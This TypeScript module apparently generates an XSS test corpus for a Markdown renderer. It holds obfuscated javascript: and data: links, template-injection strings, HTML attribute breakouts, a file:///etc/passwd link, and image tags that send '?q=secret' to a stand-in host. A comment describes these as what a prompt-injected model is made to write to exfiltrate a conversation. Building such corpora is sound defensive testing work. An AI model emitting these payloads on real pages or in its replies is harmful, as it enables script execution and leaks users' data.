import { CODE, ELSEWHERE, xssMarkup } from './xss-markup.ts'

/**
 * Ways to run code, to load something or to change the page by a text: whichever works sets
 * `globalThis.hacked`, opens a dialog, or asks `elsewhere.example` for something. Own writing: each
 * vector in several spellings and places.
 */
export function xssCorpus(): string[] {
  return [...new Set([...xssMarkup(), ...links(), ...images(), ...templates(), ...brokenOut()])]
}

/** Links in the syntaxes of Markdown to addresses that must not be followed. */
function links(): string[] {
  const addresses = [
    `javascript:${CODE}`,
    `JAVASCRIPT:${CODE}`,
    `jAvAsCrIpT:${CODE}`,
    ` javascript:${CODE}`,
    `\u0001javascript:${CODE}`,
    `\u00a0javascript:${CODE}`,
    `\u200bjavascript:${CODE}`,
    `java\tscript:${CODE}`,
    `java\nscript:${CODE}`,
    `java\rscript:${CODE}`,
    `javascript\t:${CODE}`,
    `javascript\n:${CODE}`,
    `java\\script:${CODE}`,
    `javascript\\:${CODE}`,
    `javascript&colon;${CODE}`,
    `javascript&#58;${CODE}`,
    `javascript&#x3A;${CODE}`,
    `javascript&#0000058${CODE}`,
    `&#106;avascript:${CODE}`,
    `&#x6a;&#x61;vascript:${CODE}`,
    `java&Tab;script:${CODE}`,
    `java&#9;script:${CODE}`,
    `java&NewLine;script:${CODE}`,
    `java&#10;script:${CODE}`,
    `javascript%3A${CODE}`,
    `%6aavascript:${CODE}`,
    `ｊavascript:${CODE}`,
    `javascript://elsewhere.example/%0a${CODE}`,
    `javascript:void(${CODE})`,
    `view-source:javascript:${CODE}`,
    `feed:javascript:${CODE}`,
    `jar:javascript:${CODE}!/`,
    `vbscript:${CODE}`,
    `VBScript:msgbox(1)`,
    `livescript:${CODE}`,
    `data:text/html,<script>${CODE}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `DATA:image/svg+xml,<svg onload=${CODE}>`,
    `data:,${CODE}`,
    `blob:${ELSEWHERE}/a`,
    `file:///etc/passwd`,
    `filesystem:${ELSEWHERE}/a`,
    `about:blank`,
    `intent://elsewhere.example#Intent;end`,
    `//elsewhere.example/a`,
    `/\\elsewhere.example/a`,
    `\\\\elsewhere.example\\a`,
    `?a`,
    `#a`,
  ]
  const syntaxes: ((address: string) => string)[] = [
    (address) => `[a](${address})`,
    (address) => `[a](<${address}>)`,
    (address) => `[a](${address} "title")`,
    (address) => `![a](${address})`,
    (address) => `<${address}>`,
    (address) => `[a]: ${address}\n[a]`,
    (address) => address,
  ]
  return [
    ...addresses.flatMap((address, index) =>
      // All addresses as a link, and each in some of the other syntaxes.
      [0, 1 + (index % 6), 1 + ((index + 2) % 6)].map((place) => syntaxes[place]!(address)),
    ),
    `[**a** \`b\`](javascript:${CODE})`,
    `[a [b](javascript:${CODE})](javascript:${CODE})`,
    `[![a](javascript:${CODE})](javascript:${CODE})`,
    `[a](https:javascript:${CODE}) [a](javascript:https://x.y)`,
    `<javascript:${CODE}@x.y>`,
    `[a](mailto:javascript:${CODE})`,
  ]
}

/** What a model is made to write by an injected prompt, to carry the conversation away. */
function images(): string[] {
  return [
    `![](${ELSEWHERE}/?q=secret)`,
    `![a](${ELSEWHERE}/a.png?q=secret "title")`,
    `![a](<${ELSEWHERE}/a b?q=secret>)`,
    `[![a](${ELSEWHERE}/a.png)](${ELSEWHERE}/b)`,
    `![a][b]\n\n[b]: ${ELSEWHERE}/a.png`,
    `![a](//elsewhere.example/a.png)`,
    `<img src="${ELSEWHERE}/a.png?q=secret">`,
    `<img srcset="${ELSEWHERE}/a.png 2x">`,
    `<picture><source srcset="${ELSEWHERE}/a.png"><img></picture>`,
    `<audio autoplay src="${ELSEWHERE}/a.mp3"></audio>`,
    `<input type="image" src="${ELSEWHERE}/a.png">`,
    `<link rel="dns-prefetch" href="//elsewhere.example">`,
  ]
}

function templates(): string[] {
  return [
    `{{constructor.constructor("${CODE}")()}}`,
    `{{$on.constructor("${CODE}")()}}`,
    `{{{${CODE}}}}`,
    `\${${CODE}}`,
    `#{${CODE}}`,
    `<%= ${CODE} %>`,
    `[[${CODE}]]`,
    `@{${CODE}}`,
    `<div v-html="'<img src=x onerror=${CODE}>'"></div>`,
    `<div ng-app ng-csp>{{$eval.constructor('${CODE}')()}}</div>`,
    `<div x-data x-init="${CODE}"></div>`,
    `<div hx-get="${ELSEWHERE}/a" hx-trigger="load"></div>`,
    `{"__proto__":{"innerHTML":"<img src=x onerror=${CODE}>"}}`,
  ]
}

/** Out of the places in which a text stands: attributes, cells, fences, headings. */
function brokenOut(): string[] {
  const out = [
    `" onmouseover="${CODE}" x="`,
    `' onfocus='${CODE}' autofocus x='`,
    `"><img src=x onerror=${CODE}>`,
    `'><svg onload=${CODE}>`,
    `--><img src=x onerror=${CODE}>`,
    `]]><img src=x onerror=${CODE}>`,
    `</script><script>${CODE}</script>`,
    `</style><img src=x onerror=${CODE}>`,
    `</textarea><img src=x onerror=${CODE}>`,
    `</title><img src=x onerror=${CODE}>`,
    `\u2028${CODE}\u2029`,
    `');${CODE};('`,
  ]
  const places: ((text: string) => string)[] = [
    (text) => text,
    (text) => `[a](https://x.y "${text}")`,
    (text) => `[a](https://x.y/${text})`,
    (text) => `\`\`\`${text}\ncode\n\`\`\``,
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `| ${text} |\n|---|\n| ${text} |`,
    (text) => `- ${text}\n  > # ${text}`,
    (text) => `**${text}** \`${text}\` ~~${text}~~`,
  ]
  return out.flatMap((text, index) => [
    text,
    ...[1, 2, 3].map((step) => places[(index + step * 2) % places.length]!(text)),
  ])
}
